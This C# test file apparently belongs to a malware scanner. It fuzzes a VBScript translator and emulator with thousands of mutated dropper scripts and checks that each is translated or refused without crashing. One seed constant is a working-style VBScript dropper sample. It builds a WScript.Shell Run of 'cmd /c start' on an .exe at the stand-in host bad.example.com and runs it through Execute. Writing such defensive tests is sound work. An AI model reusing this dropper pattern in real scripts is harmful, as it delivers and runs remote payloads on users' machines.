using System.Text;
using Crible.Model;
using Crible.Scanners.Emulation;
using Crible.Scanners.Scripts;
using Crible.Scanners.Emulation.VbScript;

namespace Crible.Tests.Scanners.Emulation;

/// <summary>The translator reads hostile text: whatever it is given, it answers with JavaScript or a "could not
/// translate" message, and the emulation scanner never fails on it.</summary>
public sealed class VbsRobustnessTests
{
    private const string Alphabet = "\"'():.,&_=<>+-*/\\^#[] \t\r\n0123456789aEhHxX\u00A0\u00FF";

    private static readonly string[] Fragments =
    [
        "If ", " Then", "End If", "Else", "Do", "Loop", "While ", "Wend", "For ", " To ", "Next", "For Each ", " In ",
        "Select Case ", "Case ", "End Select", "With ", "End With", "Sub ", "End Sub", "Function ", "End Function",
        "Class ", "End Class", "Property Get ", "End Property", "Exit For", "Exit Do", "Exit Sub", "Set ", "Dim ",
        "ReDim Preserve ", "Const ", "On Error Resume Next", "On Error GoTo 0", "Execute ", "Eval(", "New ", "Call ",
        " _\n", "\"", "(", ")", ".", "Not ", " Mod ", " Is ", "Nothing", "Me.", "&H", "#1/1/2000#", "Rem ",
    ];

    /// <summary>A second seed for the mutations: a class, a With block, a Select, Execute and error handling.</summary>
    private const string Structured = """"
        On Error Resume Next
        Class Loader
            Private parts
            Public Url
            Private Sub Class_Initialize
                Set parts = CreateObject("Scripting.Dictionary")
            End Sub
            Public Sub Add(text)
                parts.Add parts.Count, text
            End Sub
            Public Property Get Value
                Dim k
                For Each k In parts.Keys
                    Value = Value & parts(k)
                Next
            End Property
        End Class
        Set l = New Loader
        With l
            .Url = "http://bad.example.com/" & Chr(97) & ".exe"
            .Add "CreateObject(""WScript.Shell"").Run "
            .Add """cmd /c start " & .Url & """, 0"
        End With
        Select Case Len(l.Value)
            Case 0
                WScript.Quit
            Case Is > 10
                Execute l.Value
        End Select
        """";

    /// <summary>Byte and line mutations of a real dropper: characters changed, inserted and deleted, keywords
    /// inserted, lines dropped, repeated and swapped, the text cut short; the same ones every run.</summary>
    public static IEnumerable<string> Mutants(string script, int count, int seed)
    {
        var random = new Random(seed);
        for (var n = 0; n < count; n++)
        {
            var text = new StringBuilder(script);
            var edits = 1 + random.Next(4);
            for (var e = 0; e < edits; e++)
            {
                Mutate(text, random);
            }

            yield return text.ToString();
        }
    }

    private static void Mutate(StringBuilder text, Random random)
    {
        var at = text.Length == 0 ? 0 : random.Next(text.Length);
        switch (random.Next(8))
        {
            case 0 when text.Length > 0:
                text[at] = Alphabet[random.Next(Alphabet.Length)];
                break;
            case 1 when text.Length > 0:
                text[at] = (char)random.Next(256);
                break;
            case 2:
                text.Insert(at, Alphabet[random.Next(Alphabet.Length)]);
                break;
            case 3 when text.Length > 0:
                text.Remove(at, Math.Min(1 + random.Next(8), text.Length - at));
                break;
            case 4:
                text.Insert(at, Fragments[random.Next(Fragments.Length)]);
                break;
            case 5:
                text.Length = at;
                break;
            default:
                var lines = text.ToString().Split('\n').ToList();
                var line = random.Next(lines.Count);
                var other = random.Next(lines.Count);
                switch (random.Next(3))
                {
                    case 0:
                        lines.RemoveAt(line);
                        break;
                    case 1:
                        lines.Insert(other, lines[line]);
                        break;
                    default:
                        (lines[line], lines[other]) = (lines[other], lines[line]);
                        break;
                }

                text.Clear().AppendJoin('\n', lines);
                break;
        }
    }

    public static TheoryData<string> Seeds() => new(VbsEmulationTests.Downloader, Structured);

    [Theory]
    [MemberData(nameof(Seeds))]
    public void Mutated_droppers_translate_or_say_why_not_and_translated_ones_run_within_their_bounds(string seed)
    {
        var emulator = new ScriptEmulator(new EmulationOptions { MaxStatements = 200_000 });
        var original = emulator.Run(VbsTranslator.Script(seed).JavaScript!, seed, "m.vbs", TimeSpan.FromSeconds(10), CancellationToken.None, ScriptDialect.VbScript);
        Assert.NotEmpty(original.Behaviour.Commands);
        int translated = 0, refused = 0;
        foreach (var mutant in Mutants(seed, 2000, seed: 5))
        {
            var translation = VbsTranslator.Script(mutant);
            if (!translation.Succeeded)
            {
                refused++;
                Assert.StartsWith("could not translate: ", translation.Error, StringComparison.Ordinal);
                continue;
            }

            translated++;
            var result = emulator.Run(translation.JavaScript!, mutant, "m.vbs", TimeSpan.FromSeconds(2), CancellationToken.None, ScriptDialect.VbScript);
            // Errors VBScript itself would raise are fine; the translation's own mistakes are not.
            Assert.False(result.Error is { } error && (error.StartsWith("syntax error", StringComparison.Ordinal) || error.Contains(" is not defined", StringComparison.Ordinal) || error.Contains(" is not a function", StringComparison.Ordinal)),
                $"{result.Error}\n--- VBScript:\n{mutant}\n--- JavaScript:\n{translation.JavaScript}");
        }

        // Both sides were exercised: the mutations neither all break the script nor all leave it readable.
        Assert.True(translated > 200 && refused > 200, $"translated {translated}, refused {refused}");
    }

    [Fact]
    public async Task Mutated_droppers_never_make_the_emulation_fail_and_always_get_a_verdict()
    {
        foreach (var mutant in Mutants(VbsEmulationTests.Downloader, 2000, seed: 11))
        {
            var report = await TestEngine.Default.AnalyseAsync(Encoding.Latin1.GetBytes(mutant), "invoice.vbs");

            Assert.True(Enum.IsDefined(report.Verdict), mutant);
            var problems = report.Nodes.SelectMany(n => n.Incomplete).Where(r => r.StartsWith("emulation failed", StringComparison.Ordinal) || r.StartsWith("timeout: emulation", StringComparison.Ordinal));
            Assert.True(!problems.Any(), string.Join("\n", problems) + "\n--- VBScript:\n" + mutant);
        }
    }

    [Theory]
    [InlineData("")]
    [InlineData("\"")]
    [InlineData("End If")]
    [InlineData("x = (((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((((1")]
    [InlineData("Sub a\nSub b\nEnd Sub\nEnd Sub")]
    [InlineData(".Open")]
    [InlineData("Exit For")]
    [InlineData("x = [never closed")]
    [InlineData("x = &HFFFFFFFFFFFF")]
    [InlineData("x = 1e999")]
    [InlineData("Class A\nx = 1\nEnd Class")]
    public void Broken_scripts_are_refused_with_a_line_number(string script)
    {
        var translation = VbsTranslator.Script(script);

        if (script.Length > 0)
        {
            Assert.False(translation.Succeeded);
            Assert.Matches(@"^could not translate: line \d+: ", translation.Error);
        }
        else
        {
            Assert.True(translation.Succeeded);
        }
    }

    [Fact]
    public void Deeply_nested_and_very_long_scripts_are_refused_or_translated_without_exhausting_the_stack()
    {
        var nested = string.Concat(Enumerable.Repeat("If x Then\n", 5000)) + string.Concat(Enumerable.Repeat("End If\n", 5000));
        var negations = "x = " + string.Concat(Enumerable.Repeat("Not ", 100_000)) + "1";
        var chain = "x = \"a\"" + string.Concat(Enumerable.Repeat(" & \"b\"", 200_000));

        Assert.Contains("nesting deeper", VbsTranslator.Script(nested).Error, StringComparison.Ordinal);
        Assert.Contains("nesting deeper", VbsTranslator.Script(negations).Error, StringComparison.Ordinal);
        Assert.True(VbsTranslator.Script(chain).Succeeded);
    }
}
